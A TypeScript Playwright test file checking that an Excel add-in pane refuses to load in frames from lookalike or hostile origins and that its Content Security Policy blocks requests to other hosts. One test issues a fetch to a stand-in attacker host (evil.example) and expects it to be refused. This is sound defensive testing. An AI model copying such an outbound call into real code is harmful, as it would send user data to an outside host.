import { existsSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { DEFAULT_PROFILE } from '../../src/contract/profile';
import { OFFICE_JS_HOSTS } from '../../src/gateway/pages/page-headers';
import type { RunningGateway } from '../../src/gateway/start-gateway';
import { selfSignedCertificate, sharedBrowser, startGateway } from '../support/browser/outside';

const OFFICE_JS = path.resolve('node_modules/@microsoft/office-js/dist');
/** The parameters with which Excel on the web opens an add-in. Without them Office.js empties a framed page. */
const IN_EXCEL = '?_host_Info=Excel$Web$16.00$en-US$$$isDialog$';

let dataDir: string;
let gateway: RunningGateway;
let page: Page;
beforeAll(async () => {
  dataDir = await mkdtemp(path.join(os.tmpdir(), 'rr-frames-'));
  gateway = await startGateway({
    port: 0,
    dataDir,
    certificate: await selfSignedCertificate(dataDir),
    service: { baseUrl: 'http://127.0.0.1:1', authUrl: 'http://127.0.0.1:1', audienceUrl: 'a' },
    profile: DEFAULT_PROFILE,
    // As in production, Office.js comes from Microsoft's address.
    folders: { addin: path.resolve('dist/addin') },
    logger: false,
  });
  const browser = await sharedBrowser();
  // The framing pages are not on a real network. Browsers before 138 do not know the permission and need none.
  const permissions = Number.parseInt(browser.version()) < 138 ? [] : ['local-network-access'];
  const context = await browser.newContext({ ignoreHTTPSErrors: true, permissions });
  page = await context.newPage();
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations.push(message.text());
  });
});
afterAll(async () => {
  await page?.context().close();
  await gateway?.close();
  await rm(dataDir, { recursive: true, force: true });
});

/** What a policy refused in any frame. */
const violations: string[] = [];
/** The loaded files of Office.js. */
const loaded: string[] = [];

/** Opens the add-in in nested pages of these origins, the first one outermost. Returns the innermost frame, which may hold it. */
async function frameIn(origins: readonly string[], { officeJs = true } = {}): Promise<Frame> {
  await page.goto('about:blank');
  await page.unrouteAll();
  violations.length = 0;
  loaded.length = 0;
  await page.route(`${OFFICE_JS_HOSTS[0]}/**`, (route) => {
    const name = new URL(route.request().url()).pathname.replace('/1/', '');
    loaded.push(name);
    const file = path.join(OFFICE_JS, name);
    return officeJs && existsSync(file) ? route.fulfill({ path: file }) : route.fulfill({ status: 404 });
  });
  const addresses = [
    ...origins.map((origin) => `${origin}/frame`),
    `${gateway.url}/addin/taskpane.html${IN_EXCEL}`,
  ];
  for (const [index, origin] of origins.entries())
    await page.route(`${origin}/frame`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><iframe src="${addresses[index + 1]}"></iframe>`,
      }),
    );
  await page.goto(addresses[0] as string);
  const innermost = () => page.frames()[origins.length];
  await waitUntil(() => !['', 'about:blank'].includes(innermost()?.url() ?? ''));
  const frame = innermost() as Frame;
  await frame.waitForLoadState('load');
  return frame;
}

describe('the pane in a frame', () => {
  it.each([
    [['https://excel.cloud.microsoft']],
    [['https://contoso.sharepoint.com', 'https://euc-excel.officeapps.live.com']],
  ])('opens in a page of %j, and reaches the gateway from there', async (origins) => {
    const frame = await frameIn(origins, { officeJs: false });
    expect(await frame.evaluate(() => fetch('/gateway/profile').then(({ status }) => status))).toBe(200);
    expect(violations).toEqual([]);
  });

  it.each([
    [['https://officeapps.live.com.evil.example']],
    [['https://evil.example', 'https://excel.officeapps.live.com']],
  ])('does not open in a page of %j', async (origins) =>
    expect((await frameIn(origins)).url()).toBe('chrome-error://chromewebdata/'),
  );

  it('loads everything that Office.js needs in Excel on the web, runs there, and sends nothing to another origin', async () => {
    const frame = await frameIn(['https://excel.officeapps.live.com']);
    await waitUntil(() => loaded.includes('en-us/office_strings.js'));
    // The script of the add-in has registered its functions.
    await frame.waitForFunction(
      'typeof CustomFunctions === "object" && "QUERY" in CustomFunctions._association.mappings',
    );
    expect(loaded).toEqual(expect.arrayContaining(['office.js', 'excel-web-16.00.js']));
    expect(violations).toEqual([]);
    const outcome = await frame.evaluate(() =>
      fetch('https://evil.example/?rent=1').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(outcome).toBe('refused');
    expect(violations.join('\n')).toMatch(/https:\/\/evil\.example\/\?rent=1.*connect-src 'self'/);
  });
});

it("each page that the build makes loads whole under the gateway's own policy", async () => {
  const pages = readdirSync('dist/addin').filter((name) => name.endsWith('.html'));
  expect(pages).toEqual(expect.arrayContaining(['help.html', 'taskpane.html']));
  await page.unrouteAll();
  // The pane runs in Excel only: see above.
  await page.route(`${OFFICE_JS_HOSTS[0]}/**`, (route) => route.fulfill({ status: 404 }));
  violations.length = 0;
  const failures: string[] = [];
  page.on('response', (reply) => {
    if (reply.url().startsWith(gateway.url) && reply.status() >= 400) failures.push(reply.url());
  });
  for (const name of pages) {
    await page.goto(`${gateway.url}/addin/${name}`);
    await page.waitForFunction('document.body.innerText.trim().length > 0');
    expect([name, failures, violations]).toEqual([name, [], []]);
  }
});

async function waitUntil(isTrue: () => boolean): Promise<void> {
  const end = Date.now() + 60_000;
  while (!isTrue()) {
    if (Date.now() > end) throw new Error('It did not come to that within a minute.');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
